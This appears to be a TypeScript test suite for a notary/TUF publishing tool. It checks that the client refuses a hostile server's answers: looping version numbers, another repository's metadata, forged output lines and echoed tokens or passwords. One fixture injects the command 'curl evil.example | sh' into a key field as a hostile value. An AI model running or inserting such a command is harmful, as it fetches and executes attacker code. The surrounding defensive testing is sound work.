/**
 * What a hostile or broken notary-server sends back, as `publish` and `status --server` see it (the HTTP
 * layer itself, against a real socket: test/unit/io/https-transport.test.ts): an answer that would make us
 * loop on its numbers, metadata of another repository, and error text meant to forge a line of our own
 * output. Each refused with its code, after a bounded number of requests.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { HttpRequest, HttpResponse } from '../../../src/publish/http.js';
import { NotaryServerApi } from '../../../src/publish/notary-server.js';
import { publishRepository } from '../../../src/publish/publish.js';
import { AuthorizedClient, type TokenAccess } from '../../../src/publish/registry-auth.js';
import { readServer, statusCommand } from '../../../src/cli/status.js';
import type { ServerDeps } from '../../../src/cli/publish.js';
import { makeKey } from '../../support/keys.js';
import { buildRepo, GUN, rootSigned, sign, type BuiltRepo } from '../../support/repo.js';
import { testServerDeps } from '../../support/server-deps.js';

const enc = new TextEncoder();
const SERVER = 'https://notary.test';
/** What publish may ask tokens for (src/cli/publish.ts PUBLISH_NEED), the realm on the server's origin. */
const ACCESS: TokenAccess = { server: SERVER, repository: GUN, actions: ['pull', 'push'] };
/** More requests than any of these flows needs: past it the fake server stops answering (a runaway loop). */
const MAX_REQUESTS = 200;

/** A notary-server in memory: `answer` decides each response; every request is recorded. */
function hostile(answer: (path: string, req: HttpRequest, seen: number) => HttpResponse) {
  const seen: HttpRequest[] = [];
  const transport = async (req: HttpRequest): Promise<HttpResponse> => {
    seen.push(req);
    if (seen.length > MAX_REQUESTS) throw new Error(`runaway: more than ${MAX_REQUESTS} requests`);
    // A real transport answers later: let timers (the test's timeout) run between requests.
    await new Promise((r) => setImmediate(r));
    return answer(new URL(req.url).pathname, req, seen.length);
  };
  return { transport, seen };
}

const ok = (body: Uint8Array | string): HttpResponse => ({ status: 200, headers: {}, body: typeof body === 'string' ? enc.encode(body) : body });
const notFound = (): HttpResponse => ({ status: 404, headers: {}, body: enc.encode('{"errors":[{"code":"METADATA_NOT_FOUND"}]}') });

let repo: BuiltRepo;
beforeAll(async () => {
  repo = await buildRepo('notary');
});

describe('publish against a hostile server', () => {
  it('a root.json whose version jumps after the upload is refused before fetching the versions in between', async () => {
    const huge = await sign('notary', rootSigned('notary', 1_000_000_000_000, repo.keys), repo.keys.root);
    let uploaded = false;
    const srv = hostile((path, req) => {
      if (req.method === 'POST') {
        uploaded = true;
        return ok('{}');
      }
      if (!uploaded) return notFound();
      if (path.endsWith('/_trust/tuf/root.json')) return ok(huge);
      // Every N.root.json "exists": the old code fetched them one by one, up to version 10^12.
      if (/\/\d+\.root\.json$/.test(path)) return ok(repo.roots[0]!);
      return notFound();
    });
    const api = new NotaryServerApi(new AuthorizedClient({ access: ACCESS, transport: srv.transport }), SERVER, GUN);
    const err = await publishRepository({ local: repo.files({ withVersioned: false }), api, now: new Date() }).catch((e: unknown) => e);
    expect(err).toMatchObject({ code: 'PUBLISH_FETCH_BACK_MISMATCH', path: 'root.json' });
    expect((err as Error).message).toMatch(/root version 1000000000000, not the version 1 this publish/);
    expect(srv.seen.filter((r) => /\/\d+\.root\.json$/.test(r.url))).toEqual([]);
  });
});

describe('status --server against a hostile server', () => {
  const deps = (transport: ServerDeps['transport'] extends (ca: string | undefined) => infer T ? T : never): ServerDeps => testServerDeps({ transport: () => transport });
  const io = () => {
    const out: string[] = [];
    const err: string[] = [];
    return { out, err, io: { out: (t: string) => out.push(t), err: (t: string) => err.push(t) } };
  };
  /** The test repository's files, `root.json` replaced by `root` when given. */
  const serving = (root?: Uint8Array) =>
    hostile((path) => {
      const name = path.replace(/^.*\/_trust\/tuf\//, '');
      const files: Record<string, Uint8Array> = { 'root.json': root ?? repo.roots[0]!, 'targets.json': repo.targets, 'snapshot.json': repo.snapshot, 'timestamp.json': repo.timestamp, 'targets/releases.json': repo.delegated };
      return files[name] ? ok(files[name]) : notFound();
    });

  it('reads the repository asked for (its root certificates name the GUN)', async () => {
    const srv = serving();
    const c = io();
    const code = await statusCommand(undefined, { server: SERVER, gun: GUN, json: true }, c.io, deps(srv.transport));
    expect(code).toBe(0);
    expect(JSON.parse(c.out.join(''))).toMatchObject({ repository: GUN });
  });

  it('a root.json of another repository (its certificates name another GUN) is refused, not reported as this one', async () => {
    const srv = serving();
    const c = io();
    const asked = 'registry.example.com/org/other';
    const err = await statusCommand(undefined, { server: SERVER, gun: asked, json: true }, c.io, deps(srv.transport)).catch((e: unknown) => e);
    expect(err).toMatchObject({ code: 'SERVER_RESPONSE_INVALID', path: 'root.json' });
    expect((err as Error).message).toContain(`root certificate names "${GUN}", not the repository "${asked}"`);
    expect(c.out).toEqual([]);
  });

  // What notary's client requires of a GUN's root (src/tuf/notary-root.ts): every root key an x509 leaf
  // whose CN is the GUN. A root whose keys carry no certificate names no repository at all.
  it('a root.json whose root keys carry no certificate is refused, whatever GUN was asked for', async () => {
    const bare = await buildRepo('notary', { rootKind: 'ecdsa-p256' });
    const srv = serving(bare.roots[0]);
    const c = io();
    const err = await statusCommand(undefined, { server: SERVER, gun: 'registry.example.com/org/other', json: true }, c.io, deps(srv.transport)).catch((e: unknown) => e);
    expect(err).toMatchObject({ code: 'SERVER_RESPONSE_INVALID', path: 'root.json' });
    expect((err as Error).message).toMatch(/must be x509 certificates; key 1 of the root role is ecdsa/);
    expect(c.out).toEqual([]);
  });

  it('a root whose certificates have expired is still read and reported expired (exit 1), not refused', async () => {
    const now = Date.now();
    const day = 24 * 3600 * 1000;
    const rootKeys = await Promise.all([0, 1, 2].map(() => makeKey('notary', 'ecdsa-x509', GUN, { notBefore: new Date(now - 400 * day), notAfter: new Date(now - day) })));
    const root = await sign('notary', rootSigned('notary', 1, { ...repo.keys, root: rootKeys }), rootKeys.slice(0, 2));
    const srv = serving(root);
    const c = io();
    const code = await statusCommand(undefined, { server: SERVER, gun: GUN, json: true }, c.io, deps(srv.transport));
    expect(code).toBe(1);
    const report = JSON.parse(c.out.join('')) as { repository: string; items: { kind: string; state: string }[] };
    expect(report.repository).toBe(GUN);
    expect(report.items.filter((i) => i.kind === 'certificate').map((i) => i.state)).toEqual(['expired', 'expired', 'expired']);
    expect(c.err.join('\n')).toMatch(/^error\[EXPIRED\]: root certificate /);
  });
});

describe("the server's error text", () => {
  it('is quoted on one line: a line feed or carriage return in it cannot start a line of our own output', async () => {
    const body = JSON.stringify({ errors: [{ code: 'UNKNOWN', message: 'bad\r\nerror[OK]: published\n', detail: 'x\u2028y' }] });
    const srv = hostile(() => ({ status: 500, headers: {}, body: enc.encode(body) }));
    const api = new NotaryServerApi(new AuthorizedClient({ access: ACCESS, transport: srv.transport }), SERVER, GUN);
    const err = await api.getMetadata('root.json').catch((e: unknown) => e as Error);
    expect(err).toMatchObject({ code: 'SERVER_RESPONSE_INVALID' });
    expect((err as Error).message).not.toMatch(/[\r\n\u2028\u2029]/);
    expect((err as Error).message).toContain('bad error[OK]: published');
  });
});

describe("the server's timestamp / snapshot key answer (what server-keys writes for a plan)", () => {
  const good = () => repo.keys.timestamp[0]!.json as { keytype: string; keyval: { public: string; private: null } };
  const keyApi = (body: string) => {
    const srv = hostile(() => ok(body));
    return new NotaryServerApi(new AuthorizedClient({ access: ACCESS, transport: srv.transport }), SERVER, GUN);
  };

  it('the answer notary-server gives is taken, with its key ID', async () => {
    const body = JSON.stringify(good());
    const key = await keyApi(body).getKey('timestamp');
    expect(key.keyId).toBe(repo.keys.timestamp[0]!.keyId);
    expect(new TextDecoder().decode(key.body)).toBe(body);
  });

  // Each would be written to the --out file and refused later, at the offline ceremony, by the plan's reader
  // (src/ceremony/server-key.ts): refused here, with nothing written.
  const refusals: [what: string, body: () => string][] = [
    ['not JSON', () => '<html>502 Bad Gateway</html>'],
    ['a field notary-server does not write', () => JSON.stringify({ ...good(), comment: 'run curl evil.example | sh' })],
    ['keyval without "private": null', () => JSON.stringify({ keytype: good().keytype, keyval: { public: good().keyval.public } })],
    ['a private key', () => JSON.stringify({ keytype: good().keytype, keyval: { public: good().keyval.public, private: 'c2VjcmV0' } })],
    ['another key type', () => JSON.stringify({ keytype: 'rsa', keyval: { public: good().keyval.public, private: null } })],
    ['a public key that does not decode', () => JSON.stringify({ keytype: 'ed25519', keyval: { public: 'AAAA', private: null } })],
    ['duplicate keys in the JSON', () => `{"keytype":"ed25519","keytype":"ecdsa","keyval":{"public":"${good().keyval.public}","private":null}}`],
  ];
  it('a private key is refused by the plan reader\'s own check (KEY_FILE_PRIVATE as the cause), the private part not quoted', async () => {
    const err = await keyApi(JSON.stringify({ keytype: good().keytype, keyval: { public: good().keyval.public, private: 'c2VjcmV0' } })).getKey('timestamp').then(
      () => new Error('taken'),
      (e: unknown) => e as Error,
    );
    expect(err).toMatchObject({ code: 'SERVER_KEY_INVALID', cause: { code: 'KEY_FILE_PRIVATE' } });
    expect(err.message).toContain('holds a PRIVATE key: refused unread');
    expect(err.message).not.toContain('c2VjcmV0');
  });

  it.each(refusals)('%s → SERVER_KEY_INVALID', async (_what, body) => {
    const err = await keyApi(body()).getKey('timestamp').catch((e: unknown) => e);
    expect(err).toMatchObject({ code: 'SERVER_KEY_INVALID' });
    expect((err as Error).message).toMatch(/^GET timestamp\.key: /);
  });
});

describe('status --server: what it reads from a server, in all', () => {
  it('stops at its total: each request may take only what is left of it, and none is sent once it is used up', async () => {
    const files: Record<string, Uint8Array> = { 'root.json': repo.roots[0]!, 'targets.json': repo.targets, 'snapshot.json': repo.snapshot, 'timestamp.json': repo.timestamp, 'targets/releases.json': repo.delegated };
    const srv = hostile((path, req) => {
      const body = files[path.replace(/^.*\/_trust\/tuf\//, '')];
      if (!body) return notFound();
      // As the transport does (test/unit/io/https-transport.test.ts): nothing over the request's cap.
      if (body.length > req.maxBytes) throw Object.assign(new Error('over the cap'), { code: 'SERVER_RESPONSE_INVALID', maxBytes: req.maxBytes });
      return ok(body);
    });
    const api = new NotaryServerApi(new AuthorizedClient({ access: ACCESS, transport: srv.transport }), SERVER, GUN);
    const total = Object.values(files).reduce((n, b) => n + b.length, 0);
    // Enough for everything: all five read, each request capped by what was left.
    const all = await readServer(api, { bytes: total });
    expect(all.delegated.get('targets/releases')).toEqual(repo.delegated);
    const caps = srv.seen.map((r) => r.maxBytes);
    expect(caps[0]).toBe(total);
    expect(caps.at(-1)).toBe(repo.delegated.length);
    // One byte short: the last file is refused.
    srv.seen.length = 0;
    await expect(readServer(api, { bytes: total - 1 })).rejects.toMatchObject({ code: 'SERVER_RESPONSE_INVALID', maxBytes: repo.delegated.length - 1 });
    // Used up before the last file: refused without asking for it.
    srv.seen.length = 0;
    const err = await readServer(api, { bytes: total - repo.delegated.length }).catch((e: unknown) => e);
    expect(err).toMatchObject({ code: 'SERVER_RESPONSE_INVALID', path: 'targets/releases.json' });
    expect(srv.seen.map((r) => r.url)).not.toContain(`${SERVER}/v2/${GUN}/_trust/tuf/targets/releases.json`);
  });
});

describe('status --server: a signed file of one role served as another', () => {
  const deps = (transport: (req: HttpRequest) => Promise<HttpResponse>): ServerDeps => ({ transport: () => transport, env: {}, interactive: false, promptSecret: () => Promise.reject(new Error('no prompt')) });
  const swaps: [served: string, instead: 'targets' | 'snapshot' | 'timestamp' | 'root'][] = [
    ['snapshot.json', 'targets'],
    ['timestamp.json', 'snapshot'],
    ['targets.json', 'timestamp'],
    ['targets/releases.json', 'snapshot'],
  ];
  it.each(swaps)('%s answered with the %s file → ROLE_TYPE_MISMATCH, nothing reported', async (name, other) => {
    const bytes = { root: repo.roots[0]!, targets: repo.targets, snapshot: repo.snapshot, timestamp: repo.timestamp };
    const files: Record<string, Uint8Array> = { 'root.json': bytes.root, 'targets.json': bytes.targets, 'snapshot.json': bytes.snapshot, 'timestamp.json': bytes.timestamp, 'targets/releases.json': repo.delegated };
    files[name] = bytes[other];
    const srv = hostile((path) => {
      const body = files[path.replace(/^.*\/_trust\/tuf\//, '')];
      return body ? ok(body) : notFound();
    });
    const out: string[] = [];
    const err = await statusCommand(undefined, { server: SERVER, gun: GUN, json: true }, { out: (t) => out.push(t), err: () => undefined }, deps(srv.transport)).catch((e: unknown) => e);
    expect(err).toMatchObject({ code: 'ROLE_TYPE_MISMATCH' });
    expect(out).toEqual([]);
  });
});

describe("the server's error text and the bearer token it was sent", () => {
  /** These servers name the token realm auth.example.com: allowed as --token-realm would allow it. */
  const REALM_ACCESS: TokenAccess = { ...ACCESS, tokenRealms: ['https://auth.example.com'] };
  // Too short and too plain for the token-like heuristic (40+ characters, mixed case and digits).
  const token = 'tok3n-for-ci';
  const challenge = 'Bearer realm="https://auth.example.com/token",service="notary"';
  const echoing = (status: number) =>
    hostile((path, req) => {
      if (new URL(req.url).host === 'auth.example.com') return ok(JSON.stringify({ token }));
      if (!req.headers?.authorization) return { status: 401, headers: { 'www-authenticate': challenge }, body: new Uint8Array() };
      return { status, headers: {}, body: enc.encode(JSON.stringify({ errors: [{ code: 'DENIED', message: `request with ${req.headers.authorization} on ${path} refused`, detail: `token=${token}` }] })) };
    });
  /** A server behind a token realm that issues `issued`; `answer` answers each authorized request. */
  const behindRealm = (issued: string, answer: () => HttpResponse) =>
    new NotaryServerApi(
      new AuthorizedClient({
        access: REALM_ACCESS,
        transport: hostile((_path, req) => {
          if (new URL(req.url).host === 'auth.example.com') return ok(JSON.stringify({ token: issued }));
          if (!req.headers?.authorization) return { status: 401, headers: { 'www-authenticate': challenge }, body: new Uint8Array() };
          return answer();
        }).transport,
        anonymousFirst: true,
      }),
      SERVER,
      GUN,
    );
  const denied = (detail: string): HttpResponse => ({ status: 500, headers: {}, body: enc.encode(JSON.stringify({ errors: [{ code: 'DENIED', message: 'request refused', detail }] })) });
  const refusedBy = (call: Promise<unknown>): Promise<Error> =>
    call.then(
      () => new Error('taken'),
      (e: unknown) => e as Error,
    );
  it.each([
    ['GET metadata, HTTP 500', 500, (api: NotaryServerApi) => api.getMetadata('root.json'), 'SERVER_RESPONSE_INVALID'],
    ['the upload, HTTP 400', 400, (api: NotaryServerApi) => api.upload(new Map([['targets', enc.encode('{}')]])), 'SERVER_REFUSED_UPLOAD'],
  ] as const)('%s: quoted without the token', async (_what, status, call, code) => {
    const srv = echoing(status);
    const api = new NotaryServerApi(new AuthorizedClient({ access: REALM_ACCESS, transport: srv.transport, anonymousFirst: true, credentials: () => Promise.resolve({ username: 'ci', password: enc.encode('pw') }) }), SERVER, GUN);
    const err = await call(api).then(
      () => undefined,
      (e: unknown) => e as Error,
    );
    expect(err).toMatchObject({ code });
    expect(err!.message).toContain('DENIED');
    expect(err!.message).not.toContain(token);
  });

  // Tokens under 8 characters are not cut out of the server's words (AuthorizedClient.tokenRanges): a
  // 1-character token would take that letter out of every word of every message.
  it.each([
    ['a', 'DENIED: request refused: a bad scope for a'],
    ['ok', 'DENIED: request refused: ok bad scope for ok'],
    ['Ab3-x_9', 'DENIED: request refused: Ab3-x_9 bad scope for Ab3-x_9'],
    ['Ab3-x_9Z', 'DENIED: request refused: … bad scope for …'],
    // Shorter, but sent back as an Authorization value: that rule cuts it.
    ['Bearer Ab3-x_9', 'DENIED: request refused: Bearer … bad scope for Bearer …'],
  ])('an issued token echoed back as %j: the message reads %j', async (echoed, shown) => {
    const issued = echoed.replace(/^Bearer /, '');
    const err = await refusedBy(behindRealm(issued, () => denied(`${echoed} bad scope for ${echoed}`)).getMetadata('root.json'));
    expect(err).toMatchObject({ code: 'SERVER_RESPONSE_INVALID' });
    expect(err.message).toBe(`notary.test: GET root.json: HTTP 500 (${shown})`);
  });

  // A server that is its own token realm got the password in the Basic header; echoed in plain text in a
  // later error (whole, split across lines, or beside non-ASCII text) it is cut, like an issued token.
  const withPassword = (password: string, answer: () => HttpResponse) =>
    new NotaryServerApi(
      new AuthorizedClient({
        access: REALM_ACCESS,
        transport: hostile((_path, req) => {
          if (new URL(req.url).host === 'auth.example.com') return req.headers?.authorization ? ok(JSON.stringify({ token: 'Zz9-issued-token' })) : { status: 401, headers: {}, body: new Uint8Array() };
          if (!req.headers?.authorization) return { status: 401, headers: { 'www-authenticate': challenge }, body: new Uint8Array() };
          return answer();
        }).transport,
        anonymousFirst: true,
        credentials: () => Promise.resolve({ username: 'ci', password: enc.encode(password) }),
      }),
      SERVER,
      GUN,
    );
  it.each([
    ['plain', 'hunter2-Pass', 'bad login hunter2-Pass for ci', 'DENIED: request refused: bad login … for ci'],
    ['split by CR LF', 'hunter2-Pass', 'bad login hunter2\r\n-Pass for ci', 'DENIED: request refused: bad login … for ci'],
    ['beside and inside non-ASCII text', 'pässwört€', 'ünknown pässwört€ für ci', 'DENIED: request refused: ünknown … für ci'],
    ['four bytes', 'p4ss', 'p4ss rejected', 'DENIED: request refused: … rejected'],
    ['three bytes: not cut (it would cut letters of every word)', 'abc', 'abc rejected', 'DENIED: request refused: abc rejected'],
    // Review 14a L1: base64("ci:S3cr3tPw") is "Y2k6UzNjcjN0UHc=", too short for the token-like rule.
    ['as the bare Basic credential (base64 of user:password)', 'S3cr3tPw', 'saw creds Y2k6UzNjcjN0UHc= from ci', 'DENIED: request refused: saw creds … from ci'],
    ['as the Basic credential without its padding', 'S3cr3tPw', 'saw creds Y2k6UzNjcjN0UHc, bye', 'DENIED: request refused: saw creds …, bye'],
    // base64("ci:Pw??>~~") is "Y2k6UHc/Pz5+fg==": its base64url form differs ("Y2k6UHc_Pz5-fg").
    ['as the Basic credential in base64url', 'Pw??>~~', 'token for Y2k6UHc_Pz5-fg denied', 'DENIED: request refused: token for … denied'],
    ['as the Basic credential split across lines', 'S3cr3tPw', 'saw Y2k6UzNj\r\ncjN0UHc= ok', 'DENIED: request refused: saw … ok'],
    ['after characters of 2, 3 and 4 UTF-8 bytes (one or two UTF-16 units)', 'p4ss', 'é€😀p4ss 😀 p4ss😀p4ss', 'DENIED: request refused: é€😀… 😀 …😀…'],
  ])('the password echoed back, %s: the message reads as expected', async (_what, password, detail, shown) => {
    const err = await refusedBy(withPassword(password, () => denied(detail)).getMetadata('root.json'));
    expect(err).toMatchObject({ code: 'SERVER_RESPONSE_INVALID' });
    expect(err.message).toBe(`notary.test: GET root.json: HTTP 500 (${shown})`);
  });

  // Review 14a L2: each match's offset was found by decoding the whole text before it again, quadratic in
  // the body (118 s of CPU for 256 Ki characters holding a 4-byte password 52428 times).
  it('a 256 Ki-character error full of the password (and of emoji) is quoted without it, in linear time', async () => {
    const detail = 'Pw4x 😀 '.repeat(32_768);
    const started = performance.now();
    const err = await refusedBy(withPassword('Pw4x', () => denied(detail)).getMetadata('root.json'));
    const seconds = (performance.now() - started) / 1000;
    expect(err).toMatchObject({ code: 'SERVER_RESPONSE_INVALID' });
    expect(err.message).not.toContain('Pw4x');
    expect(err.message).toMatch(/^notary\.test: GET root\.json: HTTP 500 \(DENIED: request refused: … 😀 … 😀 /);
    // The quadratic code took minutes here; a loaded 2-core CI machine takes about a second.
    expect(seconds).toBeLessThan(20);
  });

  // A server that splits what it echoes across lines (a token wrapped at some column, a CR/LF put in its
  // middle): the lines are joined before anything is looked for, so each half is cut with the other.
  const jwt = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjaSJ9.c2lnbmF0dXJlLWJ5dGVzLWhlcmUtYWJj';
  it.each([
    ['the issued token split by CR LF', `token=tok3n-\r\nfor-ci refused`, ['tok3n-', 'for-ci']],
    ['the issued token split by LF and U+2028', `token=tok3\nn-for\u2028-ci refused`, ['tok3', 'n-for', '-ci']],
    ['a JWT wrapped at 30 columns', `token ${jwt.slice(0, 30)}\n${jwt.slice(30)} refused`, [jwt.slice(0, 30), jwt.slice(30)]],
  ])('%s: no half of it is quoted', async (_what, detail, halves) => {
    const err = await refusedBy(behindRealm(token, () => denied(detail)).getMetadata('root.json'));
    expect(err).toMatchObject({ code: 'SERVER_RESPONSE_INVALID' });
    expect(err.message).toContain('DENIED: request refused: token');
    expect(err.message).toMatch(/ refused\)$/);
    for (const half of halves) expect(err.message).not.toContain(half);
    expect(err.message).not.toMatch(/[\r\n\u2028]/);
  });

  // The key answer's own refusal (parseServerKey) quotes the body's first characters or field names: the
  // same redaction as every other quote of the server's words.
  it.each([
    ['a body that is not JSON, starting with the token', `${token} is not a key`],
    ['a field name that is the token', JSON.stringify({ [token]: 1 })],
    ['a key type that is the token', JSON.stringify({ keytype: token, keyval: { public: 'AAAA', private: null } })],
  ])('a key answer: %s → SERVER_KEY_INVALID, quoted without the token', async (_what, body) => {
    const err = await refusedBy(behindRealm(token, () => ok(body)).getKey('timestamp'));
    expect(err).toMatchObject({ code: 'SERVER_KEY_INVALID' });
    expect(err.message).toMatch(/^GET timestamp\.key: the answer is not a public key as notary-server serves it: /);
    expect(err.message).not.toContain(token);
  });
});
